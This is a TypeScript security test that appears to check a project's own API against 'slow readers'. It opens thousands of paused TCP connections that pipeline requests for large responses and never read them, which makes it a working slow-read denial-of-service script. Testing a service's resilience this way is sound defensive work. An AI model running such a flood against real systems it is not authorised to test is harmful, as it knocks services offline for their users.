/** Thousands of connections that ask for much and read nothing (security H4). Read next: attack.ts. */
import { connect, type Socket } from 'node:net'
import { pause } from '../../support/proof.ts'
import { prove } from './attack.ts'

const CONNECTIONS = 2_400
/** Asked for at once on each; the page of the API is the largest thing without a credential. */
const PIPELINED = 4
const paths = ['/docs/static/swagger-ui-bundle.js', '/openapi.json', '/v1/ledger/checkpoint', '/verify']

await prove({
  name: 'slow readers',
  mostDenials: 0,
  async run({ api }, signal) {
    const { hostname, port } = new URL(api.url)
    const sockets = new Set<Socket>()
    let opened = 0
    while (!signal.aborted) {
      for (let burst = 0; burst < 50; burst++) {
        // Those cut by the gateway are not noticed by who reads nothing: the oldest are given up.
        if (sockets.size >= CONNECTIONS) sockets.values().next().value?.destroy()
        const socket = connect({ host: hostname, port: Number(port) })
        const path = paths[opened++ % paths.length]
        sockets.add(socket.pause().on('error', () => undefined))
        socket.once('close', () => sockets.delete(socket))
        socket.write(`GET ${path} HTTP/1.1\r\nhost: ${hostname}\r\n\r\n`.repeat(PIPELINED))
      }
      await pause(50)
    }
    for (const socket of sockets) socket.destroy()
    return opened
  },
})
